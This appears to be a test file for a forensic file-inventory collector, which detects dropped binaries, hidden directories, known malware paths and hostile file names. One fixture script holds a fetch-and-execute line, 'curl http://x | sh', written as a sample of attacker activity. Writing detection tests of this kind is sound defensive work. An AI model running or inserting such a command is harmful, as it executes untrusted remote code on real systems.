import assert from 'node:assert/strict';
import { createHash } from 'node:crypto';
import { spawnSync } from 'node:child_process';
import { after, describe, it } from 'node:test';
import { FakeRoot } from '../../../test/helpers/fake-root';
import { RootHost } from '../../host/root-host';
import { collectInventory } from './file-inventory';
import { DEFAULT_LIMITS } from './walk';

const ELF = Buffer.concat([Buffer.from([0x7f, 0x45, 0x4c, 0x46, 2, 1, 1, 0]), Buffer.alloc(100)]);

describe('file inventory collector', () => {
  const roots: FakeRoot[] = [];
  after(() => roots.forEach((r) => r.remove()));
  const fresh = () => {
    const r = new FakeRoot();
    roots.push(r);
    return r;
  };

  it('identifies, hashes and bounds what it opens; usrmerge aliases are listed once', () => {
    const r = fresh();
    r.write('/usr/bin/ls', ELF, { mode: 0o755 })
      .write('/usr/bin/dropped', ELF, { mode: 0o755 })
      .symlink('/bin', 'usr/bin')
      .write('/tmp/x.sh', '#!/bin/sh\ncurl http://x | sh\n', { mode: 0o755 })
      .write('/usr/lib/.x/a/b/c/payload', ELF, { mode: 0o755 })
      .write('/usr/lib/deep/er/not-walked', ELF, { mode: 0o755 })
      .write('/usr/local/lib/libs.so', ELF);
    const gaps: string[] = [];
    const inv = collectInventory(new RootHost(r.dir), ['/usr/bin/ls', '/bin/ls'], (p, why) => gaps.push(`${p}: ${why}`));
    const by = new Map(inv.entries.map((e) => [e.path, e]));
    assert.deepEqual(gaps, []);
    assert.equal(by.get('/usr/bin/ls')?.magic, undefined, 'packaged programs are not opened');
    assert.equal(by.get('/usr/bin/dropped')?.magic, 'elf');
    assert.equal(by.get('/usr/bin/dropped')?.sha256, createHash('sha256').update(ELF).digest('hex'));
    assert.ok(![...by.keys()].some((p) => p.startsWith('/bin/')), 'the /bin alias of /usr/bin is not listed again');
    assert.equal(by.get('/tmp/x.sh')?.magic, 'script');
    assert.match(by.get('/tmp/x.sh')?.head ?? '', /curl http:\/\/x \| sh/);
    // Hidden directories are followed below the area's depth; ordinary ones are not.
    assert.equal(by.get('/usr/lib/.x/a/b/c/payload')?.hidden, '.x');
    assert.equal(by.get('/usr/lib/.x/a/b/c/payload')?.magic, 'elf');
    assert.equal(by.has('/usr/lib/deep/er/not-walked'), false);
    // Known malware paths are probed wherever they are.
    assert.equal(by.get('/usr/local/lib/libs.so')?.role, 'probe');
    assert.ok(by.get('/usr/local/lib/libs.so')?.sha256);
  });

  it('caps entries per directory and per area, recording gaps instead of stalling', () => {
    const r = fresh();
    for (let i = 0; i < 30; i++) r.write(`/tmp/many/f${String(i).padStart(2, '0')}`, 'x');
    for (let i = 0; i < 5; i++) r.write(`/var/tmp/d${i}/f`, 'x');
    const gaps: string[] = [];
    const inv = collectInventory(new RootHost(r.dir), [], (p, why) => gaps.push(`${p}: ${why}`), {
      ...DEFAULT_LIMITS,
      perDir: 10,
      perArea: 8,
    });
    assert.equal(
      inv.entries.filter((e) => e.path.startsWith('/tmp/many/')).length,
      7,
      'the /tmp area budget (8 lstats) ran out inside /tmp/many',
    );
    assert.ok(gaps.includes('/tmp/many: 30 entries; only the first 10 were examined'), gaps.join('\n'));
    assert.ok(gaps.includes('/tmp: more than 8 entries below it; the rest was not examined'), gaps.join('\n'));
  });

  it('survives hostile names and contents: newlines, invalid UTF-8, NUL bytes, FIFOs', () => {
    const r = fresh();
    r.write('/tmp/a\nb', Buffer.from([0x23, 0x21, 0xff, 0x00, 0x0a, 0xfe]), { mode: 0o755 }).write('/tmp/\u001b[31mred', ELF, {
      mode: 0o755,
    });
    spawnSync('mkfifo', [r.p('/tmp/fifo')]);
    const gaps: string[] = [];
    const inv = collectInventory(new RootHost(r.dir), [], (p, why) => gaps.push(`${p}: ${why}`));
    assert.equal(inv.entries.find((e) => e.path === '/tmp/fifo')?.kind, 'fifo');
    const odd = inv.entries.find((e) => e.path === '/tmp/a\nb');
    assert.equal(odd?.magic, 'script');
    assert.doesNotMatch(odd?.shebang ?? '', /[\u0000\u001b]/);
    assert.ok(gaps.includes('/tmp/a?b: file name contains a newline'), gaps.join('\n'));
    assert.equal(inv.entries.find((e) => e.path.startsWith('/tmp/\u001b'))?.magic, 'elf');
  });
});
